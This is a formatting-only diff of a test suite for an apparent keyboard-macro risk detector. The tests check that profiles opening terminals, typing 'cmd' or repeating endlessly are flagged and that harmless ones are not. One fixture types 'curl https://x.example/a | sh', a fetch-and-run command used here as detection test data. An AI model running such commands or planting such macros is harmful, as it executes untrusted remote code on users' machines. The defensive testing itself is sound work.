@@ -37,7 +37,13 @@ describe('what is told', () => {
     ],
     ['a terminal and a command', line('Ctrl+Alt+T & type "ls\\n"'), 'twice', 'commandBox', 'opens a terminal'],
     ['the Meta key alone', line('Meta & type "term" & Enter'), 'twice', 'commandBox', 'starts programs'],
-    ['a macro that presses the keys one by one', playing(macro('+Meta R:40 -Meta 300 C:40 M:40 D:40 Enter:40')), 'twice', 'commandBox', 'types “cmd”'],
+    [
+      'a macro that presses the keys one by one',
+      playing(macro('+Meta R:40 -Meta 300 C:40 M:40 D:40 Enter:40')),
+      'twice',
+      'commandBox',
+      'types “cmd”',
+    ],
     [
       'a command without an opener',
       line('type "curl https://x.example/a | sh\\n"'),
@@ -50,7 +56,12 @@ describe('what is told', () => {
     ['a long text in no time', line(`type "${'lorem ipsum '.repeat(20)}"`), 'look', 'fast', 'types 240 characters'],
     [
       'a macro that plays on by itself',
-      playing(macro('', { repeat: { lengthUs: 100_000, events: [{ atUs: 0, edge: 'down', code: 'KeyA' }] }, run: { kind: 'untilPressedAgain' } })),
+      playing(
+        macro('', {
+          repeat: { lengthUs: 100_000, events: [{ atUs: 0, edge: 'down', code: 'KeyA' }] },
+          run: { kind: 'untilPressedAgain' },
+        }),
+      ),
       'look',
       'byItself',
       'plays on until the key is pressed again',
@@ -58,7 +69,10 @@ describe('what is told', () => {
     [
       'a macro that does not end',
       playing(
-        macro('', { repeat: { lengthUs: 1_000_000, events: [{ atUs: 0, edge: 'down', code: 'KeyA' }] }, run: { kind: 'times', times: 100_000 } }),
+        macro('', {
+          repeat: { lengthUs: 1_000_000, events: [{ atUs: 0, edge: 'down', code: 'KeyA' }] },
+          run: { kind: 'times', times: 100_000 },
+        }),
       ),
       'look',
       'endless',
@@ -90,8 +104,14 @@ describe('what only looks like it', () => {
     ['an address to write to', line('type "desk@lantern-yard.example"')],
     ['Enter behind a chord', line('Ctrl+A & Enter')],
     ['a search in a program', line('Ctrl+F & type "scene" & Enter')],
-    ['a repeat that ends', playing(macro('', { repeat: { lengthUs: 100_000, events: [] }, run: { kind: 'times', times: 3 } }))],
-    ['a repeat while the key is held', playing(macro('', { repeat: { lengthUs: 100_000, events: [] }, run: { kind: 'whileHeld' } }))],
+    [
+      'a repeat that ends',
+      playing(macro('', { repeat: { lengthUs: 100_000, events: [] }, run: { kind: 'times', times: 3 } })),
+    ],
+    [
+      'a repeat while the key is held',
+      playing(macro('', { repeat: { lengthUs: 100_000, events: [] }, run: { kind: 'whileHeld' } })),
+    ],
     ['home-row holds with Meta', line('tap A, hold Meta')],
   ])('%s', (_what, profile) => {
     expect(deedsOf(profile).filter(({ weight }) => weight !== 'plain')).toEqual([]);
